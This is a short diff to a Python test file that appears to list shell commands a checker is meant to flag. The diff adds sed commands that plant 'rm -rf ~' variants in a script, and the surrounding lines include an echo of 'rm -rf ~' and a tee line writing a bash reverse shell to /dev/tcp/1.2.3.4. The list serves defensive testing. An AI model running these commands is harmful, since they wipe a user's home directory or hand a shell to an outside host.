@@ -193,6 +193,9 @@ def test_what_stood_there_before_is_nobodys_news(tmp_path: Path) -> None:
         f"cat > tests/conftest.py <<'EOF'\n{DELETES_HOME}EOF",
         "echo 'rm -rf ~' > src/run.sh",
         "echo 'rm -rf ~' >> src/run.sh",
+        "sed -i 's/exit 0/rm -rf ~/' lib/a.sh",
+        r"sed -i '3s|x|rm -rf ~/Documents|' lib/a.sh",
+        r"sed -i -e 's/x/rm -rf ~\/work/' lib/a.sh",
         "tee lib/a.sh <<< 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'",
     ],
 )
